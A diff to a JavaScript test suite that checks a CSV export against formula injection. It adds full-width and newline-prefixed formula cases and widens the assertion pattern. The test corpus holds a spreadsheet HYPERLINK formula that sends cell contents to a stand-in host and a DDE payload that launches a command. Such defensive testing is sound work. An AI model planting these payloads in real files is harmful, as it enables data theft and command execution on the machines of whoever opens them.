@@ -29,6 +29,8 @@ const CORPUS = {
   'lines of its own': 'one\r\n\r\ntwo\u2028three\u2029four\u0085five\tsix',
   'NUL and half a character': 'a\u0000b\uD800c',
   'a formula': '=HYPERLINK("http://elsewhere.example/?"&A1,"x")',
+  'a formula in full width': '＝1＋1',
+  'a formula on a second line': '\n=1+1',
   'a command': '@SUM(1+1)*cmd|\' /C calc\'!A0',
   'letters that look alike': 'ｓｕｃｃｅｓｓ раураӏ ɑdmin',
   'a megabyte': LONG,
@@ -180,7 +182,7 @@ each('in every field of a record', openCalm, async ({ ui, page, upstream, projec
   assert.deepEqual(JSON.parse(file), plain)
   const rows = parseCsv(csv)
   assert.deepEqual(rows.slice(1).map((row) => row.map((cell) => cell.replace(/^'/, ''))), plain.map((task) => FIELDS.map((name) => task[name])))
-  for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'a formula')
+  for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[=+\-@＝＋－＠\t\r\n]/, 'a formula')
 
   // On a telephone.
   await page.setViewportSize({ width: 320, height: 640 })
